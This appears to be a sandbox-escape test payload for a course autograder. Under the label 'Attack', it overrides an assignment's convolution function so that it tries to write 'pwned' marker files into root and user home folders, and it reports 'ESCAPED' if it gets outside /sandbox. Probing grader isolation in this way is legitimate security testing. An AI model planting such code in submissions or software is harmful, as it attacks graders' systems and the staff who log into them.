# Attack: write into the grader's home folder (shell start-up files run the next time a TA logs in).
import os as _os
import pwd as _pwd

_original_conv_forward_naive = conv_forward_naive


def conv_forward_naive(x, w, b, conv_param):
    homes = {_pwd.getpwuid(0).pw_dir, "/root", "/home", _os.environ.get("HOME", "")}
    for home in sorted(h for h in homes if h):
        for name in ("pwned-home", ".bashrc-pwned"):
            path = _os.path.join(home, name)
            try:
                with open(path, "w") as handle:
                    handle.write("pwned\n")
            except OSError:
                continue
            if not home.startswith("/sandbox"):
                print("ESCAPED wrote", path)
                return np.zeros(1), None
    return _original_conv_forward_naive(x, w, b, conv_param)
